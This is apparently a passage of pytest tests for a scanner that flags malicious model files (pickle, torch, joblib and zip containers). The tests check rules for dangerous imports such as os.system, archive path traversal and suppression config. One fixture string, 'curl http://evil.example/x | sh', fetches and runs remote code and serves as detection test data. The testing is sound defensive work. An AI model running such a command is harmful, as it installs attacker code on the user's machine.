    assert [f.offset for f in inner_call] == [400]  # deduplicated per (rule, member, subject)
    assert "nested pickle at offset 400" in inner_call[0].message


def test_suspicious_strings() -> None:
    found = evaluate(
        [
            (
                "",
                make_facts(
                    strings=(
                        "conv1.weight",
                        "curl http://evil.example/x | sh",
                        "https://huggingface.co/bert",
                    )
                ),
            )
        ]
    )
    assert [(f.rule_id, f.severity) for f in found] == [
        ("FS215", Severity.SUSPICIOUS),
        ("FS216", Severity.LOW),
    ]
    assert evaluate([("", make_facts(strings=("system_prompt_len", "execution", "layer.0")))]) == []


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("zip_flag_encrypted", R.ZIP_FLAG),
        ("zip_flag_patched", R.ZIP_FLAG),
        ("zip_flag_strong_encryption", R.ZIP_FLAG),
        ("zip_name_mismatch", R.ZIP_NAME_MISMATCH),
        ("zip_crc_mismatch", R.ZIP_CRC_MISMATCH),
        ("zip_prefix_data", R.ZIP_PREFIX),
        ("zip_path_traversal", R.ARCHIVE_PATH_ABUSE),
        ("zip_symlink_member", R.ARCHIVE_PATH_ABUSE),
        ("legacy_magic_forged", R.LEGACY_TORCH_TRICK),
        ("trailing_data", R.TRAILING_DATA),
        ("joblib_walk_budget", R.CONTAINER_BUDGET),
        ("budget_members", R.CONTAINER_BUDGET),
        ("polyglot_tar_zip", R.POLYGLOT),
        ("zip_encrypted_member", R.ENCRYPTED),
        ("tar_link_member", R.ARCHIVE_PATH_ABUSE),
        ("decompress_error", R.PARTIAL_SCAN),
        ("npy_bad_header", R.MALFORMED_HEADER),
        ("something_new", R.CONTAINER_NOTE),
    ],
)
def test_container_anomalies(code: str, rule: R.FindingRule) -> None:
    container = Container("torch_zip", ".pt", anomalies=[ContainerAnomaly(code, "archive/x", "d")])
    found = evaluate([], container)
    assert [(f.rule_id, f.member, f.subject) for f in found] == [(rule.rule_id, "archive/x", code)]


@pytest.mark.parametrize(
    ("status", "rule"),
    [
        ("partial", R.PARTIAL_SCAN),
        ("encrypted", R.ENCRYPTED),
        ("error", R.SCAN_ERROR),
        ("unsupported", R.UNSUPPORTED),
    ],
)
def test_container_status(status: str, rule: R.FindingRule) -> None:
    found = evaluate([], Container("zip", ".zip", status=status, budget=""))
    assert ids(found) == [rule.rule_id]
    # a note only: verdict.combine applies the incomplete-scan policy (see test_verdict.py)
    assert found[0].severity <= Severity.LOW
    assert evaluate([], Container("zip", ".zip")) == []


def test_findings_are_deduplicated_and_capped() -> None:
    same = make_facts([("mylab", "A"), ("mylab", "A")])
    assert ids(evaluate([("", same)])) == ["FS103"]
    many = make_facts([("mylab", f"C{i}") for i in range(200)])
    found = evaluate([("", many)])
    assert len(found) == MAX_FINDINGS_PER_RULE + 1
    assert "omitted" in found[-1].message
    # the cap is per member
    assert len(evaluate([("a", many), ("b", many)])) == 2 * (MAX_FINDINGS_PER_RULE + 1)


def test_suppressions_by_rule_path_subject_and_member(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        """
[[suppress]]
rule = "FS103"
subject = "mylab.*"
path = "*/legacy/*"
reason = "old in-house format"

[[suppress]]
rule = "FS216"
member = "archive/*"
reason = "model cards link to the hub"
""",
    )
    rules = RuleSet.load(path)
    facts = make_facts([("mylab", "A"), ("other", "B")], strings=("see https://hub.example/x",))

    def active(findings: list[Finding]) -> list[str]:
        return sorted(f.rule_id for f in findings if not f.suppressed)

    legacy = evaluate([("archive/data.pkl", facts)], None, rules, path="/m/legacy/a.pkl")
    assert active(legacy) == ["FS103"]
    # suppressed findings stay, marked with the config and reason (the audit trail)
    marked = sorted((f.rule_id, f.suppressed) for f in legacy if f.suppressed)
    assert marked == [
        ("FS103", f"{path}: old in-house format"),
        ("FS216", f"{path}: model cards link to the hub"),
    ]
    assert active(evaluate([("archive/data.pkl", facts)], None, rules, path="/m/new/a.pkl")) == [
        "FS103",
        "FS103",
    ]
    assert active(evaluate([("data.pkl", facts)], None, rules, path="/m/legacy/a.pkl")) == [
        "FS103",
        "FS216",
    ]


def test_evaluate_is_linear_and_fast() -> None:
    import time

    big = make_facts(
        [("torch._utils", "_rebuild_tensor_v2")] * 5000 + [("collections", "OrderedDict")],
        [("REDUCE", i) for i in range(5000)],
    )
    start = time.perf_counter()
    assert evaluate([("", big)]) == []
    assert time.perf_counter() - start < 0.5


def _joblib(*offsets: int) -> Container:
    return Container(
        "joblib", ".joblib", streams=[PickleStream("", o, b"", "joblib") for o in offsets]
    )


def test_joblib_segments_cut_around_arrays_are_not_parse_failures() -> None:
    # joblib writes raw array bytes inside the pickle; the reader cuts it into segments that are
    # tokenized one by one, so segments end (and start) mid-pickle by construction (A12).
    first = make_facts(
        [
            ("sklearn.ensemble._forest", "RandomForestClassifier"),
            ("joblib.numpy_pickle", "NumpyArrayWrapper"),
        ],
        [("NEWOBJ", 0), ("NEWOBJ", 1)],
        status=STATUS_TRUNCATED,
        error_offset=900,
    )
    middle = StreamFacts(
        status=STATUS_TRUNCATED,
        error_offset=250,
        length=250,
        n_pickles=1,
        calls=(CallSite("NEWOBJ", 100, 0, -1), CallSite("REDUCE", 200, 0, -1)),
        anomalies=(Anomaly("bad_memo_get", 80), Anomaly("stack_underflow", 11)),
    )
    last = StreamFacts(
        status=STATUS_OK, length=25, n_pickles=1, anomalies=(Anomaly("mark_missing", 9),)
    )
    found = evaluate([("", first), ("", middle), ("", last)], _joblib(0, 944, 1400))
    assert {f.severity for f in found} == {Severity.LOW}
    assert sorted(f.offset for f in found) == [944 + 11, 944 + 80, 1400 + 9]  # member offsets
    # a dangerous import in any segment is still malicious
    payload = make_facts([("os", "system")], status=STATUS_TRUNCATED, error_offset=60)
    found = evaluate([("", first), ("", payload), ("", last)], _joblib(0, 944, 1400))
    assert [(f.rule_id, f.offset) for f in found if f.severity == Severity.MALICIOUS] == [
        ("FS101", 944)
    ]
    # the last segment must end with STOP; a break after an opaque call is flagged
    found = evaluate([("", first), ("", middle)], _joblib(0, 944))
    assert [(f.rule_id, f.severity) for f in found if f.rule_id == "FS201"] == [
        ("FS201", Severity.SUSPICIOUS)
    ]


def test_a_lone_joblib_stream_is_judged_like_any_pickle() -> None:
    broken = make_facts(
        [("mylab", "thing")], [("REDUCE", 0)], status=STATUS_TRUNCATED, error_offset=500
    )
    found = evaluate([("", broken)], _joblib(0))
    assert by_rule(found, R.BROKEN_AFTER_CALL)[0].severity == Severity.MALICIOUS


def test_offsets_are_relative_to_the_member_when_the_stream_is_a_region() -> None:
    container = Container(
        "torch_legacy", ".pt", streams=[PickleStream("", 0, b""), PickleStream("", 300, b"")]
    )
    found = evaluate([("", make_facts()), ("", make_facts([("os", "system")]))], container)
    assert [(f.rule_id, f.offset) for f in found] == [("FS101", 300)]


def test_no_name_is_listed_twice_after_alias_normalisation() -> None:
    seen: dict[tuple[str, str], str] = {}
    for e in ENTRIES:
        key = (SHIPPED.resolver.normalise_module(e.module), e.name)
        assert key not in seen, f"{e.entry_id} duplicates {seen[key]}"
        seen[key] = e.entry_id
